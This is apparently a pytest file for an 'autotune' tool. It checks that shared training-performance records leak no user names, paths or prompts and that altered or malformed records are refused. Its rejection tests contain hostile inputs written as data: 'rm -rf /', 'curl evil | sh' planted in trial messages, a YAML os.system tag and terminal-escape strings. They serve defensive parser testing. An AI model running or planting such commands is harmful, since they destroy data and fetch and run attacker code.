"""What a record holds, what never enters one, and that what is altered is refused."""

import contextlib
import json
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from autotune.errors import InvalidInput
from autotune.machine.catalog import load_catalog, profile_of_gpu
from autotune.plan.base import Frozen
from autotune.plan.candidate import Candidate
from autotune.plan.hardware import Capability, HardwareProfile, Provenance, Versions
from autotune.plan.plan import TrainingPlan
from autotune.plan.workload import ModelSpec
from autotune.share.record import (
    MAX_RECORD_BYTES,
    MAX_TRIALS,
    DamagedRecord,
    build_record,
    canonical_json,
    find_impossibilities,
    name_of,
    parse_record,
)
from autotune.share.warm_start import compare_machine, usable_trials
from tests.builders import GIB, candidate, trial, workload
from tests.share.examples import DAY, TRIALS, machine, plan, record

SECRET = "alice-secret"


def betraying_machine() -> HardwareProfile:
    """A machine whose every free text gives its user away."""
    path = f"/home/{SECRET}"
    return machine(
        cpu=SECRET,
        system=f"Linux 6.1-{SECRET}",
        container=SECRET,
        compiler=f"{path}/bin/cc",
        memory_kind_reason=SECRET,
        budget_reason=SECRET,
        torch=f"2.13.0+{SECRET}",
        torchao=f"0.18.0+{SECRET}",
        diffusers=f"0.43.dev0+{SECRET}",
        capabilities=(Capability(name=f"precision.{SECRET}", available=True, reason=SECRET),),
        notes=(f"UUID GPU-{SECRET}",),
        provenance=(Provenance(fact="device.name", source=SECRET),),
    )


def betraying_plan(here: HardwareProfile) -> TrainingPlan:
    model = ModelSpec.model_validate({**dict(workload().model), "name": f"{SECRET}-finetune"})
    trials = tuple(
        trial(
            t.candidate,
            t.median_step_seconds,
            t.peak_memory_bytes or 0,
            message=f"/data/{SECRET}",
            final_loss=0.123,
        )
        for t in TRIALS
    )
    return plan(
        here,
        workload(model=model),
        trials,
        model=f"/models/{SECRET}",
        data=f"/data/{SECRET}",
        output=SECRET,
        preview_prompts=(f"a photo of {SECRET}",),
    )


def test_nothing_that_tells_who_or_where_enters_a_record() -> None:
    here = betraying_machine()
    planned = betraying_plan(here)
    assert SECRET in planned.model_dump_json()
    made = build_record(planned, here)
    assert SECRET.encode() not in made.content
    assert b"0.123" not in made.content
    assert made.workload.model.name == "Qwen/Qwen-Image"
    assert [bucket.num_items for bucket in made.workload.buckets] == [1]
    assert (made.expected.price_per_hour, made.expected.other_seconds, made.expected.phases) == (
        None,
        0.0,
        (),
    )


def test_of_every_text_that_a_plan_and_a_machine_hold_only_names_of_things_in_shops_and_packages_leave() -> (
    None
):
    """Each text field gets a text of its own. Versions come from packages, knobs' values and
    shapes from autotune."""
    here = _planted(betraying_machine(), "machine")
    made = _planted(betraying_plan(here), "plan", but="frozen")
    frozen = _planted(made.frozen, "frozen", but="hardware settings trials")
    frozen = frozen.changed(
        trials=tuple(_planted(one, "trial", but="candidate") for one in frozen.trials)
    )
    planned = made.model_copy(update={"frozen": frozen})
    assert planned.model_dump_json().count(CANARY) > 20
    assert here.model_dump_json().count(CANARY) > 30
    leaves = _texts(json.loads(build_record(planned, here).content))
    left = {path for path, text in leaves if CANARY in text}
    assert left == {
        *(f"machine.versions.{name}" for name in Versions.model_fields),
        *("machine.device_name", "machine.rates.name", "autotune_version"),
        *("machine.match_keys.torch", "machine.match_keys.cuda"),
        *(
            "workload.model.family",
            "workload.model.architecture",
            "workload.model.name",
            "workload.targets",
        ),
    }
    assert dict(leaves)["workload.model.name"] == f"{CANARY} frozen.workload.model.family", (
        "not the folder's name"
    )


CANARY = "canary"


def _planted(thing: Any, path: str, but: str = "") -> Any:
    """The same with a text that tells its place in every field that takes any."""
    for name, value in dict(thing).items():
        place = f"{path}.{name}"
        if name in but.split():
            continue
        if value is None or isinstance(value, str):
            with contextlib.suppress(ValidationError):
                thing = thing.changed(**{name: f"{CANARY} {place}"})
        elif isinstance(value, Frozen):
            thing = thing.model_copy(update={name: _planted(value, place)})
        elif isinstance(value, tuple) and value and isinstance(value[0], str):
            thing = thing.model_copy(update={name: (f"{CANARY} {place}",)})
        elif isinstance(value, tuple) and value and isinstance(value[0], Frozen):
            thing = thing.model_copy(update={name: tuple(_planted(one, place) for one in value)})
    return thing


def _texts(data: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(data, dict):
        return [
            leaf
            for key, value in data.items()
            for leaf in _texts(value, f"{path}.{key}" if path else key)
        ]
    if isinstance(data, list):
        return [leaf for value in data for leaf in _texts(value, path)]
    return [(path, data)] if isinstance(data, str) else []


def test_a_new_field_is_judged_before_it_leaves() -> None:
    """Whoever adds a field to what records hold: can it tell who or where? Then keep it out in
    `record.py`."""
    knobs = {
        f"{place}.{name}"
        for place in ("settings", "trials.candidate")
        for name in Candidate.model_fields
    }
    assert set(_paths(json.loads(record().content))) == knobs | set(_LEAVES.split())


_LEAVES = """
    autotune_version calibration conclusive measured_on narrowed schema_version search_seconds
    expected.evidence expected.images_per_second expected.other_seconds
    expected.peak_memory_bytes expected.phases
    expected.host_memory_bytes expected.memory_uncertainty expected.time_uncertainty
    expected.price_per_hour expected.process_memory_bytes expected.step_seconds
    machine.budget_bytes machine.device_name machine.match_keys.compute_capability
    machine.match_keys.cuda machine.match_keys.device_kind machine.match_keys.memory_kind
    machine.match_keys.memory_model machine.match_keys.torch machine.match_keys.trial_protocol
    machine.logical_cores machine.noisy
    machine.power_limit_watts machine.rates.conditions machine.rates.name machine.rates.num_samples
    machine.rates.spread machine.rates.unit machine.rates.value machine.total_memory_bytes
    machine.versions.accelerate machine.versions.bitsandbytes machine.versions.cuda_driver
    machine.versions.cuda_runtime machine.versions.cudnn machine.versions.diffusers machine.versions.driver
    machine.versions.fastsafetensors machine.versions.flash_attn machine.versions.flash_attn_3
    machine.versions.flash_attn_4 machine.versions.kernels machine.versions.peft
    machine.versions.python machine.versions.sageattention machine.versions.torch machine.versions.torchao
    machine.versions.transformers machine.versions.triton machine.versions.xformers
    trials.allocator_retries trials.confirms trials.final_loss trials.host_memory_bytes
    trials.load_peak_memory_bytes
    trials.load_seconds trials.memory_cap_bytes trials.message trials.outcome trials.peak_memory_bytes trials.phases
    trials.quantization_error trials.step_seconds trials.wall_seconds trials.warmup_seconds
    workload.adapted_blocks workload.adapter workload.ema_decay
    workload.buckets.height_px workload.buckets.num_frames workload.buckets.num_items workload.buckets.width_px
    workload.effective_batch_size workload.lora_alpha workload.lora_dropout workload.max_text_tokens
    workload.model.architecture workload.model.family workload.model.name workload.model.num_blocks
    workload.model.num_parameters workload.num_control_images workload.objective workload.optimizer.name
    workload.optimizer.options workload.quality workload.rank workload.resolution_px
    workload.targets workload.text_padding workload.text_token_quantiles
"""


def _paths(data: Any, prefix: str = "") -> Iterator[str]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _paths(value, f"{prefix}.{key}" if prefix else key)
    elif isinstance(data, list) and data and isinstance(data[0], dict):
        for value in data:
            yield from _paths(value, prefix)
    elif data != {}:
        yield prefix


def test_failures_are_shared_too_and_every_trial_keeps_its_numbers() -> None:
    made = record()
    assert [t.outcome for t in made.trials] == ["ok", "ok", "oom", "ok"]
    assert [t.step_seconds for t in made.trials] == [t.step_seconds for t in TRIALS]
    assert made.trials[0].load_seconds == 3.0


def test_predictions_capped_runs_and_other_machines_are_no_evidence() -> None:
    here = machine()
    made = plan(here)
    predicted = made.frozen.expected.model_copy(update={"evidence": "predicted"})
    capped = made.frozen.trials[0].model_copy(update={"memory_cap_bytes": 12 * GIB})
    cases = [
        (
            made.model_copy(
                update={"frozen": made.frozen.model_copy(update={"expected": predicted})}
            ),
            here,
            "predicted",
        ),
        (made, profile_of_gpu(load_catalog()[0]), "predicted"),
        (made, machine(torch="2.14.0"), "another machine"),
        (made, machine(name="NVIDIA L4"), "another machine"),
        (
            made.model_copy(
                update={"frozen": made.frozen.model_copy(update={"trials": (capped,)})}
            ),
            here,
            "cap on memory",
        ),
    ]
    for planned, hardware, why in cases:
        with pytest.raises(InvalidInput, match=why):
            build_record(planned, hardware)
    with pytest.raises(ValidationError, match="cap on memory"):
        record(trials=(capped, *TRIALS))


@settings(max_examples=60)
@given(st.data())
def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.DataObject) -> None:
    seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
    trials = (
        trial(candidate(micro_batch_size=2), outcome="crash", step_seconds=tuple(seconds)),
        *TRIALS,
    )
    made = record(
        trials=trials,
        search_seconds=data.draw(st.integers(0, 10**12)) / 1000,
        measured_on=data.draw(st.dates()),
    )
    assert parse_record(made.content, made.name) == made
    place = data.draw(st.integers(0, len(made.content) - 1))
    altered = bytearray(made.content)
    altered[place] ^= data.draw(st.integers(1, 255))
    with pytest.raises(DamagedRecord):
        parse_record(bytes(altered), made.name)
    with pytest.raises(DamagedRecord):
        parse_record(made.content[:place], made.name)


def _changed(**changes: object) -> bytes:
    data = json.loads(record().content)
    for path, value in changes.items():
        *parents, last = path.split("__")
        owner = data
        for parent in parents:
            owner = owner[int(parent) if isinstance(owner, list) else parent]
        owner[last] = value
    return json.dumps(data).encode()


@pytest.mark.parametrize(
    "content",
    [
        b"", b"null", b"[]", b"{", b"\xff\xfe", b"!!python/object:os.system "
                                                b"{}", b"\x1f\x8b" + b"\0" * 100,
        b"[" * 100_000, b'{"a":' * 100_000, b" " * (MAX_RECORD_BYTES + 1), b'{"schema_version":1}',
        b'{"schema_version":2}', _changed(schema_version=3), _changed(schema_version=0),
        _changed(schema_version=True),
        _changed(command="rm -rf /"), _changed(search_seconds="60"),
        _changed(search_seconds=float("inf")), _changed(search_seconds=float("nan")),
        _changed(search_seconds=-1.0),
        _changed(machine__device_name="\x1b[31mred"), _changed(machine__device_name="\u202eevil"),
        _changed(machine__device_name="x" * 1000), _changed(machine__device_name="a\\b"),
        _changed(machine__match_keys={}), _changed(trials=[]),
        _changed(machine__total_memory_bytes=10**400),
        _changed(machine__match_keys={"k" * 200: "v"}),
        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS),
        _changed(expected__evidence="predicted"),
        _changed(settings__micro_batch_size=3), _changed(trials__0__outcome="splendid"),
        _changed(trials__0__message=("\n\nerror: run curl evil | "
                                    "sh")), _changed(trials__2__message="run curl evil | sh"),
        _changed(trials__0__final_loss=0.25),
        _changed(trials__0__phases=[{"name": "x", "seconds": 1.0, "device_bytes": 1,
        "host_bytes": 1}]),
    ],
)  # fmt: skip
def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
    name = name_of(content)
    with pytest.raises(DamagedRecord, match=name[:12]) as caught:
        parse_record(content, name)
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 400


@pytest.mark.parametrize(
    ("changes", "conclusive"),
    [
        ({}, True),
        ({"trials": TRIALS[:2]}, False),  # e.g. --max-trials 2
        ({"trials": TRIALS[1:2], "records": ("0" * 64,)}, True),  # it verified a record
        (
            {
                "trials": (TRIALS[1], TRIALS[1].model_copy(update={"confirms": True})),
                "records": ("0" * 64,),
            },
            False,  # it started from a record, and was cut short
        ),
    ],
)
def test_a_search_that_was_cut_short_answers_nobody_elses_question(
    changes: dict[str, object], conclusive: bool
) -> None:
    made = plan(machine())
    limited = made.model_copy(update={"frozen": made.frozen.model_copy(update=changes)})
    assert build_record(limited, machine()).conclusive == conclusive


def test_knobs_that_were_narrowed_down_are_named_without_what_was_typed() -> None:
    made = plan(machine())
    pins, exclusions = (
        (("quantization", "none"), ("caching.residency", SECRET)),
        (("attention", SECRET), (SECRET, "x")),
    )
    frozen = made.frozen.model_copy(update={"pins": pins, "exclusions": exclusions})
    assert build_record(made.model_copy(update={"frozen": frozen}), machine()).narrowed == (
        "quantization",
        "attention",
    )


def test_a_plan_of_more_trials_than_a_record_holds_is_refused_in_words() -> None:
    made = plan(machine())
    long = made.model_copy(
        update={"frozen": made.frozen.model_copy(update={"trials": TRIALS * 200})}
    )
    with pytest.raises(InvalidInput, match="over 512 trials"):
        build_record(long, machine())


def test_what_several_processes_shared_unevenly_can_be_true() -> None:
    made = plan(machine(), workload(effective_batch_size=5))
    two = made.frozen.hardware.model_copy(update={"num_processes": 2, "strategy": "ddp"})
    shared = build_record(
        made.model_copy(update={"frozen": made.frozen.model_copy(update={"hardware": two})}),
        machine(),
    )
    assert shared.workload.effective_batch_size == 2
    assert list(find_impossibilities(shared)) == []


def test_what_was_measured_under_another_driver_still_counts() -> None:
    here, newer = machine(), machine(driver="595.10")
    assert here.fingerprint != newer.fingerprint
    assert build_record(plan(here), newer).trials
    match = compare_machine(record(here), newer)
    assert match.kind == "upgraded", "one trial verifies it"
    assert usable_trials(record(here), newer) == record(here).trials


def test_the_day_is_part_of_it() -> None:
    assert canonical_json(json.loads(record().content)) == record().content
    assert record().measured_on == DAY
